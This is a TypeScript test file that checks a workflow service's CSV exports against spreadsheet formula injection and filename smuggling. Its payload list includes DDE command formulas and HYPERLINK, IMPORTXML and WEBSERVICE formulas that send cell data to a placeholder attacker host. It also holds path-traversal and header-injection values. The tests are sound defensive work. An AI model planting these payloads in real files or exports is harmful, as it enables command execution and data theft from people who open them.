import { afterAll, beforeAll, it } from "vitest";
import { aRun } from "../../lib/testing/rows/a-run";
import { FOREIGN, type Scene, theScene } from "./scene";
import { attackTable, unless } from "./table";

let scene: Scene;
beforeAll(async () => {
  scene = await theScene();
});
afterAll(() => scene.close());

const holds = attackTable("exports");

/** What a spreadsheet would treat as a formula, and what hides one. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\ufeff=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '"=1+1',
  '","=1+1',
  '"\r\n"=1+1","x',
  "'=1+1",
  "a\r\n=1+1",
  "a,=1+1",
  "\u200b=1+1",
  "%0A=1+1",
  "==1",
  "=",
];

/** A strict parser of RFC 4180: rows of cells, and whether each was quoted. */
function parse(text: string): { text: string; quoted: boolean }[][] {
  const rows: { text: string; quoted: boolean }[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  while (cell.lastIndex < text.length) {
    const at = cell.lastIndex;
    const [, quoted, plain = "", end] = cell.exec(text) ?? [];
    if (end === undefined) throw new Error(`No cell at ${at}: ${text.slice(at, at + 60)}`);
    rows.at(-1)?.push({ text: quoted?.replaceAll('""', '"') ?? plain, quoted: quoted !== undefined });
    if (end === "\r\n") rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

const BEGINS_A_FORMULA = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/;
/** Numbers are safe, although they may begin like a formula. */
const NUMBER = /^-?\d+(\.\d+)?$/;

async function expectNoFormula(path: string, formula: string): Promise<string | undefined> {
  const response = await scene.send("GET", path, { headers: { authorization: `Bearer ${await token()}` } });
  const text = await response.text();
  const rows = parse(text);
  const width = rows[0]?.length;
  const cells = rows
    .flat()
    .filter(({ text: cell, quoted }) => BEGINS_A_FORMULA.test(cell) && (quoted || !NUMBER.test(cell)));
  const isWhole = rows.every((row) => row.length === width);
  const disposition = response.headers.get("content-disposition") ?? "";
  const isFile = /^attachment; filename="[\w.-]+\.csv"$/.test(disposition);
  return unless(cells.length === 0 && isWhole && isFile, `${JSON.stringify(formula)} in ${path}`, {
    cells,
    isWhole,
    disposition,
  });
}

let minted: string | undefined;
const token = async () => (minted ??= await scene.mint(["admin", "payload.read"]));

it("a formula in a reason, a note or a reference is text in the audit's file", async () => {
  await holds(FORMULAS, async (formula) => {
    const runId = await aRun(scene.db, { workflow: FOREIGN, tags: {} }).failedAt("charge-payment");
    await scene.boot("POST", `/v1/runs/${runId}/reruns`, { reason: `${formula}x` });
    return expectNoFormula(`/v1/audit/export?format=csv&runId=${runId}`, formula);
  });
});

it("a formula as a step, a tag or a reference is text in the ledger's file, of one run and of many", async () => {
  await holds(FORMULAS, async (formula) => {
    const runId = await aRun(scene.db, { workflow: FOREIGN, tags: { [`${formula}k`]: formula } }).like({
      status: "completed",
      steps: [{ name: formula, effect: "once", status: "completed" }],
    });
    await scene
      .rows("update handrail.step set reference = $2, idempotency_key = $2 where run_id = $1", [runId, formula])
      .catch(() => scene.rows("update handrail.step set reference = $2 where run_id = $1", [runId, formula]));
    return (
      (await expectNoFormula(`/v1/runs/${runId}/effects/export?format=csv`, formula)) ??
      (await expectNoFormula(`/v1/effects/export?format=csv&q=${runId}`, formula))
    );
  });
});

it("a formula is text in the report of an operation", async () => {
  await holds(FORMULAS, async (formula) => {
    const runId = await aRun(scene.db, { workflow: FOREIGN, tags: { [`${formula}k`]: formula } }).like({
      status: "failed",
      attention: "failed",
      failedStep: formula,
      error: JSON.stringify({ name: formula, message: formula }),
      steps: [
        {
          name: formula,
          effect: "idempotent",
          status: "failed",
          error: JSON.stringify({ name: formula, message: formula }),
        },
      ],
    });
    const plan = await scene.boot("POST", "/v1/plans", { act: "rerun", params: {}, selection: { runIds: [runId] } });
    const { id, hash } = plan.body;
    const { status, body } = await scene.boot("POST", `/v1/plans/${id}/executions`, { hash, reason: `${formula}x` });
    if (status >= 300) return `no operation: ${JSON.stringify(body)}`;
    return expectNoFormula(`/v1/operations/${body.id}/report?format=csv`, formula);
  });
});

it("no name of a file is anybody's to choose", async () => {
  const names = ["../../x", 'x"; filename="y.exe', "x\r\nset-cookie: a=b", "%0d%0a", "con", ".htaccess"];
  await holds(names, async (name) => {
    const query = new URLSearchParams({ format: "csv", workflow: name, filename: name });
    const response = await scene.send("GET", `/v1/effects/export?${query}`, {
      headers: { authorization: `Bearer ${await token()}` },
    });
    return unless(response.status === 400, name, response.status);
  });
});
